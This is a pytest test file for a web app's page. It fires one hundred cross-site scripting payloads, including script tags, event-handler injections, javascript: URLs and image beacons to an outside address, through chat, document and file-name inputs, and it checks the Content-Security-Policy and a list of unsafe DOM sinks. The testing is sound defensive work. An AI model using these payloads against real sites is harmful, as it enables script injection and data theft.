"""P18: the page runs nothing that a model, a document or a file name says.

One hundred payloads go through a real browser as what the model says, as texts, titles and names of documents, and as names of
files that were dropped in. Two things stand against them, and each alone is enough: the page only ever makes text of a string,
and the server's Content-Security-Policy lets the browser run and fetch nothing that is not a file of the page.
"""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from llamarium.engine.language_model import LanguageModel
from llamarium.server import application, guard

Start = Callable[..., Any]
OUTSIDE = "http://192.0.2.1"
TEMPLATES = """
<script>{js}</script>
<ScRiPt >{js}</sCrIpT>
<script src="{url}"></script>
<img src=x onerror="{js}">
<img src="{url}">
<img/src=x/onerror={js}>
<svg onload="{js}">
<svg><script>{js}</script></svg>
<svg><animate onbegin="{js}" attributeName=x dur=1s>
<svg><image href="{url}"/></svg>
<iframe srcdoc="<script>parent.{js}</script>"></iframe>
<iframe src="javascript:parent.{js}"></iframe>
<iframe src="{url}"></iframe>
<object data="{url}"></object>
<embed src="{url}">
<a href="javascript:{js}" autofocus onfocus="{js}">a</a>
<input autofocus onfocus="{js}">
<details open ontoggle="{js}">
<video src="{url}" onerror="{js}"></video>
<audio src=x onerror="{js}">
<link rel=stylesheet href="{url}">
<style>@import url("{url}");</style>
<p style="background:url({url})">x</p>
<meta http-equiv=refresh content="0;url={url}">
<base href="{url}">
<form action="{url}"><button autofocus onfocus="{js}">x</button></form>
</textarea><script>{js}</script>
</title><img src=x onerror="{js}">
--><img src=x onerror="{js}">
'"><img src=x onerror="{js}">
<math><mtext><img src=x onerror="{js}"></mtext></math>
![x]({url})
[x](javascript:{js})
""".strip().splitlines()
EFFECTS = ("alert({number})", "document.title='hacked{number}'", "new Image().src='http://192.0.2.1/js{number}'")
MORE = ["{{{{constructor.constructor('{js}')()}}}}"]
PAYLOADS = [
    template.format(js=effect.format(number=number), url=f"{OUTSIDE}/{number}")
    for number, (template, effect) in enumerate([(t, e) for t in TEMPLATES for e in EFFECTS] + [(MORE[0], EFFECTS[0])])
]
# The elements that the page itself puts around what was said; anything else came out of a string.
OWN = "article, div, p, h3, span, small, figure, blockquote, figcaption, details, summary, li, label, input[type=checkbox], mark, a"


def run_all(served: Any, browser: Any, payloads: list[str]) -> list[str]:
    """Put the payloads through every door; what they brought about, if anything."""
    for number, payload in enumerate(payloads):
        name = f"{payload.replace('/', '&sol;')}{number}.md"
        if len(name.encode()) <= 200:
            text = f"# {payload} marker{number}\n\n{payload} is marker{number}."
            body = {"name": name, "content": base64.b64encode(text.encode()).decode()}
            assert served.post("/documents", body).status_code == 201, name
    browser.goto(served.url)
    everything = (
        "(async () => { const quietly = (work) => work.catch(() => null); const payloads = " + json.dumps(payloads) + ";"
        "choose('chat'); for (const payload of payloads) { state.conversation = []; await quietly(send(payload)); }"
        "choose('ask'); for (let n = 0; n < payloads.length; n++) await quietly(send(`What is marker${n}?`));"
        "for (const link of [...document.querySelectorAll('.citation')].slice(0, 150)) {"
        "  const asked = new URLSearchParams(link.hash.slice(1));"
        "  await quietly(openViewer(asked.get('document'), Number(asked.get('start')), Number(asked.get('end')))); }"
        "for (const payload of payloads) announce(payload, { shown: true });"
        "await new Promise((resolve) => setTimeout(resolve, 300)); })()"
    )
    browser.evaluate(everything)
    effects = [f"dialog {text}" for text in browser.dialogs]
    effects += [f"request {url}" for url in browser.requests if not url.startswith((served.url, "about:blank"))]
    title = browser.evaluate("document.title")
    effects += [f"title {title}"] if title != "Llamarium" else []
    return effects


def strange_elements(browser: Any) -> list[str]:
    inside = "#main .turns *, #viewer-text *, #list *, #status *"
    found = browser.evaluate(f"[...document.querySelectorAll('{inside}')].filter((node) => !node.matches('{OWN}')).map((n) => n.outerHTML)")
    assert isinstance(found, list)
    return found


def broken_page(folder: Path) -> Path:
    """The page as it must not be: strings become elements."""
    shutil.copytree(application.PAGE, folder / "page")
    path = folder / "page" / "page.js"
    script = path.read_text(encoding="utf-8")
    careful = "document.createTextNode(child)"
    assert careful in script
    script = script.replace(careful, "document.createRange().createContextualFragment(child)")
    # Nor does it stream into a text node.
    script = script.replace("return text.data;", 'box.append(make("p", "", text.data)); return text.data;')
    path.write_text(script, encoding="utf-8")
    return folder / "page"


def test_one_hundred_payloads_bring_nothing_about(serving: Start, echo: LanguageModel, browser: Any) -> None:
    assert len(set(PAYLOADS)) == 100
    served = serving(echo)
    assert run_all(served, browser, PAYLOADS) == []
    assert strange_elements(browser) == []
    assert browser.complaints == []  # nothing was even tried: the policy had nothing to refuse
    shown = browser.evaluate("[...document.querySelectorAll('#turns-chat .spoken')].map((node) => node.textContent)")
    assert shown == PAYLOADS  # and all was said, letter by letter
    assert browser.evaluate("document.querySelectorAll('#turns-ask .citation').length") >= 60


def test_the_policy_alone_would_hold(serving: Start, echo: LanguageModel, browser: Any, tmp_path: Path) -> None:
    effects = run_all(serving(echo, page=broken_page(tmp_path)), browser, PAYLOADS[:30])
    assert effects == []
    assert browser.complaints != []  # there it had


def test_control_without_both_they_run(
    serving: Start, echo: LanguageModel, browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guard, "HEADERS", {})
    effects = run_all(serving(echo, page=broken_page(tmp_path)), browser, PAYLOADS[:30])
    assert {effect.partition(" ")[0] for effect in effects} == {"dialog", "request", "title"}


def test_every_response_has_the_policy(serving: Start, echo: LanguageModel) -> None:
    served = serving(echo, key="0123456789abcdef")
    for path, options in {
        "/": {},
        "/page.js": {},
        "/v1/models": {},
        "/healthz": {"headers": {"Host": "elsewhere"}},
        "/readyz": {"headers": {"Authorization": ""}},
        "/nothing": {},
        "/documents/nothing": {},
    }.items():
        policy = served.client.get(path, **options).headers["content-security-policy"]
        rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
        assert rules.pop("default-src") == "'none'"
        assert {value for name, value in rules.items() if name.endswith("-src")} == {"'self'"}
        assert {rules[name] for name in ("base-uri", "form-action", "frame-ancestors")} == {"'none'"}


def test_the_page_has_nothing_inline() -> None:
    text = (application.PAGE / "index.html").read_text(encoding="utf-8")
    assert "<style" not in text
    assert " style=" not in text
    assert " on" not in [part[:3] for part in text.split('"')[::2]]
    assert text.count("<script") == text.count("<script src=")
    script = (application.PAGE / "page.js").read_text(encoding="utf-8")
    for way in (
        "innerHTML",
        "outerHTML",
        "insertAdjacent",
        "document.write",
        "eval(",
        "Function(",
        "createContextualFragment",
        "DOMParser",
    ):
        assert way not in script
